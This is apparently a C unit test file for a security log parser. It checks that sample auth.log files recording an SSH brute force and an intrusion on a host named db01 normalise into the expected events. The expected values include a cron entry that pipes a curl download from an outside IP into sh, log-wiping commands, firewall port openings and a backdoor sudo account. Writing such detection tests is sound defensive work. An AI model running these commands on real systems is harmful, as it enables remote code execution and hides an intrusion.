/* Whole auth.log lines from ../shared/data/linux-samples through trl_parse_event(): the syslog
 * parser and the Linux normalisers together must give what EXPECTED.md there asks a defender to
 * see. Skipped when TRL_SHARED is not set. */
#include "norm_test.h"

#include "formats/parse.h"

#define MAX_LINES 128

struct sample {
    struct trl_event *ev[MAX_LINES];
    size_t n;
};

/* Parses every line of data/linux-samples/name; false (and a skip) without the shared data. */
static bool load(const char *name, struct sample *out)
{
    const char *dir = trl_test_shared_dir();
    if (!dir) {
        print_message("TRL_SHARED is not set: skipping %s\n", name);
        return false;
    }
    char path[4096];
    snprintf(path, sizeof(path), "%s/data/linux-samples/%s", dir, name);
    FILE *f = fopen(path, "r");
    if (!f) {
        print_message("%s is missing: skipping\n", path);
        return false;
    }
    char line[4096];
    out->n = 0;
    while (out->n < MAX_LINES && fgets(line, sizeof(line), f)) {
        size_t len = strlen(line);
        if (len == 0 || line[0] == '\n')
            continue;
        struct trl_event *ev = trl_event_create(norm_arena, line, len, 1720563243000000000LL);
        trl_parse_event(ev, TRL_FORMAT_AUTO);
        out->ev[out->n++] = ev;
    }
    fclose(f);
    return true;
}

static size_t count_action(const struct sample *s, const char *action)
{
    size_t n = 0;
    for (size_t i = 0; i < s->n; i++)
        n += trl_event_is(s->ev[i], TRL_F_EVENT_ACTION, action);
    return n;
}

/* The first event with this action whose process.command_line contains needle. */
static const struct trl_event *find_command(const struct sample *s, const char *action,
                                            const char *needle)
{
    for (size_t i = 0; i < s->n; i++) {
        size_t len;
        const char *cmd = trl_event_get(s->ev[i], TRL_F_PROCESS_COMMAND_LINE, &len);
        if (trl_event_is(s->ev[i], TRL_F_EVENT_ACTION, action) && cmd &&
            trl_memstr(cmd, len, needle))
            return s->ev[i];
    }
    return NULL;
}

static void assert_every_line_recognised(const struct sample *s)
{
    for (size_t i = 0; i < s->n; i++) {
        if (!trl_event_is(s->ev[i], TRL_F_EVENT_KIND, "event"))
            fail_msg("line %zu not normalised: %s", i + 1, s->ev[i]->original);
    }
}

static void test_web01_external_ssh_brute_force(void **state)
{
    (void)state;
    static struct sample s;
    if (!load("web01-auth.log", &s))
        skip();
    assert_int_equal(s.n, 31);
    assert_every_line_recognised(&s);
    assert_int_equal(count_action(&s, "ssh-invalid-user"), 5);
    assert_int_equal(count_action(&s, "ssh-login-failed"), 9);
    assert_int_equal(count_action(&s, "ssh-max-auth-exceeded"), 1);
    assert_int_equal(count_action(&s, "pam-auth-failed"), 5);
    assert_int_equal(count_action(&s, "pam-user-unknown"), 5);
    assert_int_equal(count_action(&s, "ssh-connection-closed"), 5);
    assert_int_equal(count_action(&s, "ssh-disconnecting"), 1);

    size_t root_failures = 0, invalid = 0;
    for (size_t i = 0; i < s.n; i++) {
        const struct trl_event *ev = s.ev[i];
        if (trl_event_is(ev, TRL_F_EVENT_ACTION, "pam-user-unknown"))
            continue;
        /* Every other line names the redirector as the peer. */
        assert_field(ev, TRL_F_SOURCE_IP, "203.0.113.45");
        if (trl_event_is(ev, TRL_F_EVENT_ACTION, "ssh-login-failed") &&
            trl_event_is(ev, TRL_F_USER_NAME, "root"))
            root_failures++;
        if (trl_event_is(ev, TRL_F_EVENT_ACTION, "ssh-invalid-user"))
            invalid += trl_event_get_named(ev, "sshd.invalid_user", 17, &(size_t){0}) != NULL;
    }
    assert_int_equal(root_failures, 4);
    assert_int_equal(invalid, 5);

    const struct trl_event *first = s.ev[0];
    assert_class(first, "authentication", "info", "ssh-invalid-user", "failure");
    assert_field(first, TRL_F_USER_NAME, "admin");
    assert_field(first, TRL_F_SOURCE_PORT, "51120");
    assert_field(first, TRL_F_PROCESS_NAME, "sshd");
    assert_field(first, TRL_F_PROCESS_PID, "25003");
}

/* db01: the internal brute force, success, sudo, new account, persistence and firewall changes. */
static void check_db01(const struct sample *s, const char *sshd_name)
{
    assert_every_line_recognised(s);
    assert_int_equal(count_action(s, "ssh-login-failed"), 6);
    assert_int_equal(count_action(s, "ssh-login"), 1);

    for (size_t i = 0; i < s->n; i++) {
        const struct trl_event *ev = s->ev[i];
        if (!trl_event_is(ev, TRL_F_EVENT_ACTION, "ssh-login"))
            continue;
        assert_class(ev, "authentication", "start", "ssh-login", "success");
        assert_field(ev, TRL_F_USER_NAME, "svc_backup");
        assert_field(ev, TRL_F_SOURCE_IP, "10.20.1.15");
        assert_field(ev, TRL_F_SOURCE_PORT, "44230");
        assert_field(ev, TRL_F_PROCESS_NAME, sshd_name);
        assert_named(ev, "sshd.method", "password");
    }

    const struct trl_event *ev = find_command(s, "sudo-command", "/bin/bash");
    assert_non_null(ev);
    assert_field(ev, TRL_F_USER_NAME, "svc_backup");
    assert_field(ev, TRL_F_USER_TARGET_NAME, "root");
    assert_field(ev, TRL_F_PROCESS_WORKING_DIRECTORY, "/home/svc_backup");

    assert_non_null(find_command(s, "sudo-command", "--dport 9998 -j ACCEPT"));
    assert_non_null(find_command(s, "sudo-command", "--dport 9999 -j ACCEPT"));
    assert_non_null(find_command(s, "sudo-command", "journalctl --vacuum-time=1s"));
    assert_non_null(find_command(s, "sudo-command", "/var/log/wtmp /var/log/btmp"));

    ev = find_command(s, "cron-command", "curl -s http://198.51.100.77/b | sh");
    assert_non_null(ev);
    assert_field(ev, TRL_F_USER_NAME, "root");

    assert_int_equal(count_action(s, "user-created"), 1);
    assert_int_equal(count_action(s, "group-member-added"), 2);
    assert_int_equal(count_action(s, "password-changed"), 1);
    assert_int_equal(count_action(s, "crontab-modified"), 1);
    for (size_t i = 0; i < s->n; i++) {
        ev = s->ev[i];
        if (trl_event_is(ev, TRL_F_EVENT_ACTION, "user-created")) {
            assert_field(ev, TRL_F_USER_TARGET_NAME, "sysmaint");
            assert_field(ev, TRL_F_USER_TARGET_ID, "1002");
        }
        if (trl_event_is(ev, TRL_F_EVENT_ACTION, "group-member-added")) {
            assert_field(ev, TRL_F_USER_TARGET_NAME, "sysmaint");
            assert_field(ev, TRL_F_GROUP_NAME, "sudo");
        }
    }
}

static void test_db01_internal_intrusion(void **state)
{
    (void)state;
    static struct sample s;
    if (!load("db01-auth.log", &s))
        skip();
    assert_int_equal(s.n, 33);
    check_db01(&s, "sshd");
    assert_int_equal(count_action(&s, "session-opened"), 5);
    assert_values(s.ev[8], TRL_F_EVENT_CATEGORY, "session");
    assert_field(s.ev[8], TRL_F_EVENT_ACTION, "session-opened");
    assert_field(s.ev[8], TRL_F_USER_NAME, "svc_backup");
}

static void test_db01_iso8601_and_sshd_session_program(void **state)
{
    (void)state;
    static struct sample plain, iso;
    if (!load("db01-auth.log", &plain) || !load("db01-auth-iso8601.log", &iso))
        skip();
    check_db01(&iso, "sshd-session");
    /* The same events, line by line, whatever the timestamp layout or sshd program name. */
    assert_int_equal(iso.n, plain.n);
    for (size_t i = 0; i < iso.n; i++) {
        size_t a = 0, b = 0;
        const char *va = trl_event_get(plain.ev[i], TRL_F_EVENT_ACTION, &a);
        const char *vb = trl_event_get(iso.ev[i], TRL_F_EVENT_ACTION, &b);
        assert_non_null(va);
        assert_non_null(vb);
        assert_int_equal(a, b);
        assert_memory_equal(va, vb, a);
        char users[1024];
        snprintf(users, sizeof(users), "%s", norm_values(plain.ev[i], TRL_F_RELATED_USER));
        assert_string_equal(users, norm_values(iso.ev[i], TRL_F_RELATED_USER));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_web01_external_ssh_brute_force),
        cmocka_unit_test(test_db01_internal_intrusion),
        cmocka_unit_test(test_db01_iso8601_and_sshd_session_program),
    };
    return cmocka_run_group_tests(tests, norm_setup, norm_teardown);
}
